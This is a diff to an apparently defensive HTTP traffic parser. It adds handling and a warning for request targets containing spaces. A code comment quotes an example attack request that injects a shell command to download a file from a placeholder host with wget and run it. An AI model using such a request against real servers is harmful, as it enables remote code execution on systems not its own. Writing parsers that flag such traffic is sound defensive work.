@@ -54,6 +54,7 @@ HTTP_bad_content_length            invalid, negative, > 2**63-1 or conflicting v
 HTTP_TE_and_CL                     Transfer-Encoding and Content-Length (TE wins)
 HTTP_bad_transfer_encoding         request TE whose last coding is not chunked
 HTTP_bad_header_line               field line without colon, or space before colon
+HTTP_space_in_target               request target with spaces (attack traffic): kept as sent
 HTTP_head_too_large                head or chunk line over HEAD_MAX bytes; resync
 HTTP_chunk_missing_crlf            chunk data not followed by CRLF; resync
 HTTP_content_gap                   a gap hit a head or chunk framing; resync
@@ -174,6 +175,9 @@ class ParseError(Exception):
 
 _TOKEN = r"[!#$%&'*+.^_`|~0-9A-Za-z-]+"  # RFC 9110 §5.6.2
 _REQUEST_LINE = re.compile(rf"({_TOKEN}) ([^ ]+)(?: HTTP/([0-9]\.[0-9]))?")
+# Attack traffic sends targets with spaces ("GET /shell?cd+/tmp;wget+ http://x/a;sh HTTP/1.1")
+# and servers answer them: the target is all between the method and the version.
+_SPACED_REQUEST_LINE = re.compile(rf"({_TOKEN}) (.*[^ ].*) HTTP/([0-9]\.[0-9])")
 _STATUS_LINE = re.compile(r"HTTP/([0-9]\.[0-9]) ([0-9]{3})(?: (.*))?")
 # Resync patterns, on raw bytes; methods are upper case in practice, which
 # keeps random text from looking like a request.
@@ -746,9 +750,13 @@ class _Reader:
         """A head's start line, parsed, and fields; raises ParseError for a bad start line."""
         line = lines[0]
         known = self.start_lines
-        start = known.get(line) or _remember(known, line, self.parse_start_line(line))
+        start = known.get(line) or self._start_line(line)
         fields, framing = _fields(lines[1:], self._warn)
         return line, start, fields, framing
+
+    def _start_line(self, line: str) -> tuple:
+        """A start line not seen lately, parsed and remembered."""
+        return _remember(self.start_lines, line, self.parse_start_line(line))
 
     def _check_head_size(self) -> None:
         if len(self.buf) > HEAD_MAX:
@@ -965,6 +973,17 @@ class _RequestReader(_Reader):
         self.paused: list[tuple[bytes, int, int]] = []
         self.paused_size = 0
         self.waiting_for: _Tx | None = None
+
+    def _start_line(self, line: str) -> tuple:
+        try:
+            return _Reader._start_line(self, line)
+        except ParseError:
+            m = _SPACED_REQUEST_LINE.fullmatch(line)
+            if m is None:
+                raise
+        # Not remembered: the anomaly is due each time.
+        self._warn("HTTP_space_in_target", line[:80])
+        return m.groups()
 
     def _head_end(self, buf: bytes | bytearray, start: int) -> int:
         lf = buf.find(b"\n", start)
